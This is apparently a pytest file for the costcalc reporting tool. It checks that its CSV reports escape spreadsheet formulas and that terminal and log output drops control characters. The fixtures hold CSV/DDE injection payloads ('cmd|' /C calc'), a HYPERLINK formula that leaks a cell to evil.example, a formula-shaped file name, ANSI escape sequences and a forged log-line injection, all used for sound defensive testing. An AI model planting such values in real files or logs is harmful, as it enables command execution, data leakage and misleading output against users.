"""Formula and terminal injection (issue 10, item 6): every CSV costcalc writes
neutralises formula-leading cells, and terminal output carries no control characters.

Real reports over a real DuckDB file of marts whose service types are hostile, a real
load whose file name is a formula, and the helper itself.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from costcalc.cli import main
from costcalc.safe_output import FORMULA_START, spreadsheet_cell, terminal_text
from reports_marts_helper import SERVICE_USE, build_marts

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("cell", [-12.5, 0, 3, "-12.50", "-£1,234.56", "+3", "-1e-05", "Home Care", "", None,
                                  "2024-01-31", "a=b"])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert spreadsheet_cell(cell) == ("" if cell is None else cell)


def test_terminal_text_strips_escape_sequences_and_bells():
    hostile = "Home\x1b[2J\x1b]0;pwned\x07 Care\x9b31m\x00"
    assert terminal_text(hostile) == "Home[2J]0;pwned Care31m"
    assert terminal_text("a\nb\tc") == "a\nb\tc"
    assert terminal_text("a\nb\rc\u2028d", one_line=True) == "a b c d"


@pytest.fixture(scope="module")
def hostile_marts(tmp_path_factory):
    rows = []
    for i, text in enumerate(FORMULAS + ["Evil\x1b[31mRed\x1b[0m\x07"]):
        base = SERVICE_USE[0]
        rows.append((100 + i, *base[1:5], text, *base[6:]))
    rows.append((200, *SERVICE_USE[0][1:4], "=cmd|' /C calc'!A0", "Refund", *SERVICE_USE[0][6:11],
                 -350.0, -50.0, None))
    return build_marts(tmp_path_factory.mktemp("inject") / "wh.duckdb", service_use=SERVICE_USE + rows)


def _report(wh: Path, fmt: str) -> str:
    res = CliRunner().invoke(main, ["--warehouse", str(wh), "report", "services", "--from", "2024-01-01",
                                    "--to", "2024-01-31", "--format", fmt, "--exact"])
    assert res.exit_code == 0, res.output
    return res.stdout


def test_report_csv_neutralises_formulas_and_keeps_negative_numbers(hostile_marts):
    out = _report(hostile_marts, "csv")
    assert "'\r=1+1" in out  # (a lone CR is not quoted by the csv module: checked on the text)
    rows = list(csv.reader(io.StringIO(out.replace("'\r=1+1", "'CR=1+1"), newline="")))
    cells = [c for r in rows for c in r]
    for text in FORMULAS:
        if "\r" not in text:
            assert text not in cells and "'" + text in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    header = rows[0]
    cost = header.index("cost")
    refund = [r for r in rows if r[header.index("service_type")] == "Refund"][0]
    assert float(refund[cost]) < 0 and not refund[cost].startswith("'")  # a negative number stays a number


def test_report_table_has_no_control_characters(hostile_marts):
    out = _report(hostile_marts, "table")
    assert "\x1b" not in out and "\x07" not in out
    assert "Evil[31mRed[0m" in out  # the text stays, its ESC and BEL go


def test_the_error_report_escapes_the_reason_and_the_value(tmp_path):
    """A file named like a formula: its name is in the reason of a whole-file rejection."""
    folder = tmp_path / "in"
    folder.mkdir()
    name = "@SUM(1)+cmd|' -C calc'!A0.csv"
    f = folder / name
    f.write_text("pin,postcode,surname,dob,startdate,cost,proptype\n"
                 "=HYPERLINK(\"x\"),SW1A 1AA,Smith,01/01/1980,01/04/2024,=1+1,B&B\n", encoding="utf-8")
    res = CliRunner().invoke(main, ["--warehouse", str(tmp_path / "wh.duckdb"), "load", "--provider",
                                    "nobody-allowed", str(f)])
    assert res.exit_code == 1
    with open(folder / (name + ".errors.csv"), encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][0].startswith("The file was not loaded: ")  # the summary line
    assert rows[1] == ["row", "column", "value", "reason", "hint"]
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
    # a row-level rejection: the value is escaped too
    g = folder / "ta.csv"
    g.write_text("pin,postcode,surname,dob,startdate,cost,proptype\n"
                 "P1,SW1A 1AA,Smith,01/01/1980,01/04/2024,=1+1,B&B\n", encoding="utf-8")
    CliRunner().invoke(main, ["--warehouse", str(tmp_path / "wh.duckdb"), "load", str(g)])
    with open(folder / "ta.csv.errors.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert ["2", "cost", "'=1+1"] in [r[:3] for r in rows[2:]]


def test_load_output_strips_escape_sequences_from_file_names(tmp_path):
    f = tmp_path / "ta\x1b[2J\x07.csv"
    f.write_text("pin,postcode,surname,dob,startdate,cost,proptype\nP1,SW1A 1AA,Smith,01/01/1980,01/04/2024,1,B\n")
    res = CliRunner().invoke(main, ["--warehouse", str(tmp_path / "wh.duckdb"), "load", str(f)])
    assert res.exit_code == 0, res.output
    assert "\x1b" not in res.output and "\x07" not in res.output
    assert "ta[2J.csv: loaded" in res.output


def test_the_watchers_own_error_report_escapes_its_reason():
    from costcalc.watch.handling import refusal_report_rows
    rows = refusal_report_rows("=cmd|' /C calc'!A0.csv: not a file type this provider may send")
    assert rows[1] == ["row", "column", "value", "reason", "hint"]
    assert rows[2][3].startswith("'=cmd|")


def test_the_watchers_log_lines_carry_no_control_characters():
    import logging

    from costcalc.commands.watch import LOG_FORMAT
    from costcalc.safe_output import SafeLogFormatter

    record = logging.LogRecord("costcalc.watch.folder", logging.INFO, __file__, 1,
                               "loaded %s", ("ta\x1b[2J\nFAKE ERROR root.csv",), None)
    line = SafeLogFormatter(LOG_FORMAT).format(record)
    assert "\x1b" not in line and "\n" not in line
    assert line.endswith("loaded ta[2J FAKE ERROR root.csv")
